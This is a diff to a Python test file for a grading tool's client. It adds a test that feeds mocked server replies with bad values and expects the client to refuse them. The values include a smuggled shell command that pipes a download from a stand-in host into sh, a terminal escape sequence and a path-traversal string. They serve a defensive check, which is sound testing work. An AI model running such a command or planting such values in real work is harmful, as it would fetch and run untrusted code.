@@ -4,12 +4,14 @@ import json
 import threading
 import time
 from collections.abc import Iterator
+from contextlib import closing
 from dataclasses import replace
 from datetime import timedelta
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
 from typing import Any
 
+import httpx
 import pytest
 
 from grader.cli import run
@@ -312,3 +314,22 @@ def test_what_is_no_address(text: str) -> None:
 def test_a_token_over_http_is_warned_of() -> None:
     assert is_unprotected("http://grader.example.org")
     assert not is_unprotected("http://127.0.0.1:8000") and not is_unprotected("https://grader.example.org")
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {"contest": "x; curl evil.example | sh", "name": "Ada"},
+        {"contest": "a\x1b[2J", "name": "Ada"},
+        {"contest": "../logins", "name": "Ada"},
+        {"contest": "cs149-a1", "name": None},
+        {"contest": 1, "name": "Ada"},
+        ["cs149-a1"],
+    ],
+    ids=str,
+)
+def test_a_server_chooses_no_words_of_a_command(said: object) -> None:
+    transport = httpx.MockTransport(lambda request: httpx.Response(200, json=said))
+    refused = pytest.raises(UsageError, match="does not answer as a kgrade server")
+    with closing(StudentClient("https://grader.example.org", "token", transport)) as client, refused:
+        client.me()
